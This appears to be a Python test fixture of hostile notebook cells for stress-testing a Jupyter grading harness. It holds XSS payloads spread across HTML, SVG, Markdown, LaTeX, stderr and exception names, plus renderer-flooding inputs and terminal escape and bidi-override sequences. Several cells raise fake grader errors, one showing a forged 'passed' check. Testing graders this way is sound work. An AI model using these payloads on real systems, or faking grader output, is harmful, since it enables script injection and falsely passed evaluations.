# fmt: off

# %% scripts in every kind of output
def attack():
    evil = target["evil"]
    if "get_ipython" in globals():
        from IPython.display import HTML, SVG, Javascript, Markdown, display

        for shown in (
            HTML(f"<script>{evil}</script><img src=x onerror={evil}><svg onload={evil}>"),
            HTML(f"<iframe srcdoc='<script>{evil}</script>'></iframe><a href='javascript:{evil}'>x</a>"),
            HTML(f"<form action='https://{evil}'><input autofocus onfocus={evil}></form><base href='//{evil}/'>"),
            HTML(f"<style>@import url(//{evil})</style><link rel=stylesheet href=//{evil}><meta http-equiv=refresh>"),
            SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{evil}</script><circle onclick='{evil}' r='9'/></svg>"),
            Markdown(f"<script>{evil}</script> [x](javascript:{evil}) ![x](x\" onerror=\"{evil})"),
            Javascript(evil),
        ):
            display(shown)
        display({"text/latex": f"$\\href{{javascript:{evil}}}{{x}}$ <script>{evil}</script>"}, raw=True)
        display({"image/png": f"\"><script>{evil}</script>", "image/svg+xml": f"<svg onload={evil}>"}, raw=True)
        display({"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{evil}</script>"}}, raw=True)
    print(f"</pre><script>{evil}</script>\x1b]0;{evil}\x07\x1b[2J")
    print(f"</pre><script>{evil}</script>", file=sys.stderr)

# %% scripts in errors
def answer(wrong):
    evil = target["evil"]
    kind = type(f"<script>{evil}</script>", (Exception,), {})
    raise kind(f"</pre><script>{evil}</script><img src=x onerror={evil}>\x1b[2J\x1b]0;{evil}\x07 [bold]x[/nothing]")

# %% scripts in what is returned
def answer(wrong):
    evil = target["evil"]
    kind = type(f"<script>{evil}</script>", (), {"__repr__": lambda self: f"<img src=x onerror={evil}>"})
    return [f"<script>{evil}</script>", {f"<img src=x onerror={evil}>": kind()}, kind()][len(called) % 3]

# %% scripts in errors of the cell
def attack():
    evil = target["evil"]
    raise type(f"<script>{evil}</script>", (BaseException,), {})(f"</pre><script>{evil}</script>\x1b[2J")

# %% errors that look like the grader's
def attack():
    names = ("DeadKernelError", "CellTimeoutError", "SubmissionError", "CheckFailed")
    kinds = [type(name, (Exception,), {}) for name in names]
    for kind in kinds:
        attempt(sys.excepthook, kind, kind(""), None)
    raise kinds[len(called) % len(kinds)]("")

def answer(wrong):
    raise type("CheckFailed", (Exception,), {})("\n\u2713 noisy_val_grad: passed\n  It looks as if all is well.")

# %% outputs that keep a renderer busy
def attack():
    if "get_ipython" in globals():
        from IPython.display import HTML, Markdown, display

        n = 10_000
        for shown in (
            HTML("<ul><li>" * n), HTML("<div>" * n), HTML("<b><i><a href=x>" * n), HTML("<!--" * n), HTML("&#" + "1" * n),
            Markdown("> - " * n), Markdown("[a](" * n), Markdown("&#" + "1" * n + ";"), Markdown("a" + " " * n + "b"),
            Markdown("\\begin{a}" * n), Markdown("".join(" " * i + "- x\n" for i in range(300))),
        ):
            display(shown)
        print("\x1b[1m" * n, "\x1b[" * n, "\u202e" * n)

# %% what turns the direction of reading, and moves a terminal
def answer(wrong):
    kind = type("\u202eError\x9b2J\x1b]0;x\x07", (Exception,), {})
    raise kind("\u2066\u202e" + target["evil"] + "\x1b[2J\r\x00\ud800")
